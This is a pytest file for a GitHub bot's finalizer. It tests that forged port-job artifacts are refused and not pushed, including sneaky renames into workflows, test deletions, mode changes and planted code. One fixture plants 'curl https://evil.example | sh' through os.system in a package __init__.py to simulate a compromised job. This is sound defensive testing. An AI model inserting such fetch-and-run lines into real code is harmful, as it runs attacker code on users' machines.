"""Forged artifacts against the local GitHub: finalize pushes only what agent-d itself generates.

Each forgery is self-consistent (its ``tested_tree`` is exactly head + its patch, as a
compromised GPU job would make it), so only the finalizer's own judgement can stop it:
git's tree diff without rename detection, the dispatched kernels, and regeneration.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from ghfake.fixtures import ghfake_assets, ghfake_spec, github_fake  # noqa: F401
from github_world import BOTS, REPO, world  # noqa: F401
from test_github_support import (
    KERNEL_RS,
    OPS,
    fake_generate,
    fake_port,
    kernel_path,
    make_local_repo,
    visible,
)

from bot.github import gitops
from bot.github.artifact import change_refusals
from bot.github.dispatch import Dispatcher
from bot.github.finalize import Finalizer, FinalizeRequest
from bot.github.port_job import run_port_job
from bot.github.runner import prepare_checkout

TEST_FILE = "tests/ops/test_silu_and_mul.py"
EMPTY_BLOB = "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391"


def _dispatch_and_port(world, port_fn=fake_port, tag="t"):  # noqa: F811
    pr = world.open_kernel_pr()
    sha = world.fake.pr_head_sha(pr)
    d = Dispatcher(world.gh, world.event("pull_request", "opened", pr=pr.number), BOTS, run_ref=tag).run()
    assert d.run
    checkout = prepare_checkout(world.fake.clone_url(REPO), "refs/heads/add-silu", sha, world.tmp / "co")
    art = run_port_job(
        checkout, sha, ["silu_and_mul"], world.tmp / "art", port_fn, repo_name=REPO, base_sha=d.base_sha
    )
    return pr, sha, d, checkout, art


def _forge(checkout: Path, sha: str, art: Path, patch: str, ops: list[str] | None = None) -> None:
    """Replace the artifact's patch with ``patch`` and make result.json agree with it."""
    tree = gitops.apply_patch_to_tree(checkout / ".git", sha, patch)
    (art / "patch.diff").write_text(patch)
    result = json.loads((art / "result.json").read_text())
    paths = sorted({line[6:] for line in patch.splitlines() if line.startswith("+++ b/")})
    result.update(tested_tree=tree, changed_paths=paths)
    if ops is not None:
        verdict = next(iter(result["verdicts"].values()))
        result.update(ops=ops, verdicts={op: verdict for op in ops})
    (art / "result.json").write_text(json.dumps(result))


def _finalize(world, pr, sha, d, art, kernels=("silu_and_mul",)):  # noqa: F811
    req = FinalizeRequest(REPO, pr.number, sha, d.check_run_id, [art], kernels=tuple(kernels))
    return Finalizer(world.gh, req, BOTS, fake_generate).run()


def _nothing_published(world, pr, sha, d, fin):  # noqa: F811
    assert fin.conclusion == "failure" and not fin.pushed
    assert world.fake.branch_sha(REPO, "add-silu") == sha
    assert world.reviews(pr.number) == []
    check = world.repo.get_check_run(d.check_run_id)
    assert (check.status, check.conclusion) == ("completed", "failure")
    return visible(check.output.summary)


def test_a_rename_into_the_workflows_folder_is_refused(world):  # noqa: F811
    pr, sha, d, checkout, art = _dispatch_and_port(world)
    # git apply honours the old "rename old/new" spelling; the header filter once read only from/to
    evil = (
        f"diff --git a/{TEST_FILE} b/{TEST_FILE}\nsimilarity index 100%\n"
        f"rename old {TEST_FILE}\nrename new .github/workflows/evil.yml\n"
    )
    _forge(checkout, sha, art, evil)
    summary = _nothing_published(world, pr, sha, d, _finalize(world, pr, sha, d, art))
    assert "renames" in summary
    assert ".github/workflows/evil.yml" not in {f.filename for f in world.repo.get_commit(sha).files}


def test_deleting_a_test_is_refused(world):  # noqa: F811
    pr, sha, d, checkout, art = _dispatch_and_port(world)
    text = (checkout / TEST_FILE).read_text()
    patch = (
        f"diff --git a/{TEST_FILE} b/{TEST_FILE}\ndeleted file mode 100644\n--- a/{TEST_FILE}\n+++ /dev/null\n"
        f"@@ -1 +0,0 @@\n-{text.rstrip()}\n"
    )
    _forge(checkout, sha, art, patch)
    summary = _nothing_published(world, pr, sha, d, _finalize(world, pr, sha, d, art))
    assert "deletes" in summary


def test_a_mode_change_is_refused(world):  # noqa: F811
    pr, sha, d, checkout, art = _dispatch_and_port(world)
    patch = f"diff --git a/{TEST_FILE} b/{TEST_FILE}\nold mode 100644\nnew mode 100755\n"
    _forge(checkout, sha, art, patch)
    summary = _nothing_published(world, pr, sha, d, _finalize(world, pr, sha, d, art))
    assert "mode other than 100644" in summary


def test_an_artifact_for_a_kernel_that_was_not_dispatched_is_refused(world):  # noqa: F811
    pr, sha, d, checkout, art = _dispatch_and_port(world)
    ffi = f"{OPS}/evil_kernel/ffi.rs"
    patch = (
        f"diff --git a/{ffi} b/{ffi}\nnew file mode 100644\n--- /dev/null\n+++ b/{ffi}\n@@ -0,0 +1 @@\n+x\n"
    )
    _forge(checkout, sha, art, patch, ops=["evil"])
    summary = _nothing_published(world, pr, sha, d, _finalize(world, pr, sha, d, art))
    assert "evil" in summary and "not among the dispatched kernels" in summary


def test_code_the_generator_does_not_write_is_not_pushed(world):  # noqa: F811
    # A compromised GPU job edits an allowed wiring file and reports the tree it made, consistently.
    def port_and_plant(repo: Path, op: str):
        init = repo / "src/tilegym/ops/__init__.py"
        init.write_text(init.read_text() + "import os; os.system('curl https://evil.example | sh')\n")
        return fake_port(repo, op)

    pr, sha, d, _checkout, art = _dispatch_and_port(world, port_and_plant)
    assert "os.system" in (art / "patch.diff").read_text()
    summary = _nothing_published(world, pr, sha, d, _finalize(world, pr, sha, d, art))
    assert "not what agent-d generates" in summary and "src/tilegym/ops/__init__.py" in summary


def test_the_honest_artifact_is_pushed_with_agent_ds_own_files(world):  # noqa: F811
    pr, sha, d, _checkout, art = _dispatch_and_port(world)
    fin = _finalize(world, pr, sha, d, art)
    assert fin.pushed and fin.conclusion == "success"
    files = {f.filename for f in world.repo.get_commit(fin.new_head).files}
    assert files == {f"{OPS}/silu_and_mul_kernel/ffi.rs", f"{OPS}/cutile_kernels/src/lib.rs"}


def test_an_artifact_that_tested_the_prs_own_files_is_refused(world):  # noqa: F811
    # A GPU job that kept the pull request's lib.rs and says so consistently: its start tree is the
    # head's, which finalize never accepts in place of the base's files plus the kernel.rs.
    lib = f"{OPS}/cutile_kernels/src/lib.rs"
    pr = world.open_kernel_pr(files={kernel_path("silu_and_mul"): KERNEL_RS, lib: "mod evil;\n"})
    sha = world.fake.pr_head_sha(pr)
    d = Dispatcher(world.gh, world.event("pull_request", "opened", pr=pr.number), BOTS, run_ref="own").run()
    assert d.run
    checkout = prepare_checkout(world.fake.clone_url(REPO), "refs/heads/add-silu", sha, world.tmp / "co")
    art = run_port_job(
        checkout, sha, ["silu_and_mul"], world.tmp / "art", fake_port, repo_name=REPO, base_sha=sha
    )
    result = json.loads((art / "result.json").read_text())
    result["base_sha"] = d.base_sha  # claims the dispatched base
    (art / "result.json").write_text(json.dumps(result))
    summary = _nothing_published(world, pr, sha, d, _finalize(world, pr, sha, d, art))
    assert f"artifact base tree {gitops.tree_of(checkout / '.git', sha)} is not" in summary
    assert f"the files of the base {d.base_sha[:12]}" in summary


def test_an_artifact_that_hides_a_file_it_put_back_is_refused(world):  # noqa: F811
    lib = f"{OPS}/cutile_kernels/src/lib.rs"
    pr = world.open_kernel_pr(files={kernel_path("silu_and_mul"): KERNEL_RS, lib: "mod evil;\n"})
    sha = world.fake.pr_head_sha(pr)
    d = Dispatcher(world.gh, world.event("pull_request", "opened", pr=pr.number), BOTS, run_ref="hide").run()
    checkout = prepare_checkout(world.fake.clone_url(REPO), "refs/heads/add-silu", sha, world.tmp / "co")
    art = run_port_job(
        checkout, sha, ["silu_and_mul"], world.tmp / "art", fake_port, repo_name=REPO, base_sha=d.base_sha
    )
    result = json.loads((art / "result.json").read_text())
    assert result["reset_paths"]["crate"] == [lib] and result["reset_count"] == 1
    result.update(reset_paths={**result["reset_paths"], "crate": []}, reset_count=0)
    (art / "result.json").write_text(json.dumps(result))
    summary = _nothing_published(world, pr, sha, d, _finalize(world, pr, sha, d, art))
    assert "reset_paths are not the files where the head differs" in summary


# --------------------------------------------------------------------------- git's own tree diff


def _tree_with(repo: Path, *commands: list[str]) -> str:
    with gitops.temp_index() as env:
        gitops.git(repo, "read-tree", "HEAD", env=env)
        for cmd in commands:
            gitops.git(repo, *cmd, env=env)
        return gitops.git(repo, "write-tree", env=env).strip()


def _add(mode: str, path: str) -> list[str]:
    return ["update-index", "--add", "--cacheinfo", f"{mode},{EMPTY_BLOB},{path}"]


@pytest.mark.parametrize(
    ("commands", "expected"),
    [
        # a rename is seen as what it does: a workflow added, the test file deleted (git's path order)
        (
            [["update-index", "--force-remove", TEST_FILE], _add("100644", ".github/workflows/evil.yml")],
            ["under .git/ or .github/", f"{TEST_FILE!r} is deleted"],
        ),
        ([["update-index", "--chmod=+x", TEST_FILE]], ["gets mode 100755"]),
        ([_add("120000", f"{OPS}/x.py")], ["gets mode 120000"]),
        ([_add("100644", f"{OPS}/other_kernel/ffi.rs")], ["generated file of 'other'"]),
        ([_add("100644", f"{OPS}/cutile_kernels/Cargo.lock")], ["outside the generated and wiring paths"]),
    ],
)
def test_tree_changes_are_judged_on_gits_diff_without_renames(tmp_path, commands, expected):
    repo = tmp_path / "repo"
    make_local_repo(repo)
    gitops.git(repo, "hash-object", "-w", "--stdin", input="")  # the empty blob, used by the entries above
    head_tree = gitops.tree_of(repo / ".git", "HEAD")
    tree = _tree_with(repo, *commands)
    refusals = change_refusals(gitops.tree_changes(repo / ".git", head_tree, tree), ["silu_and_mul"])
    assert len(refusals) == len(expected)
    for why, part in zip(refusals, expected, strict=True):
        assert part in why
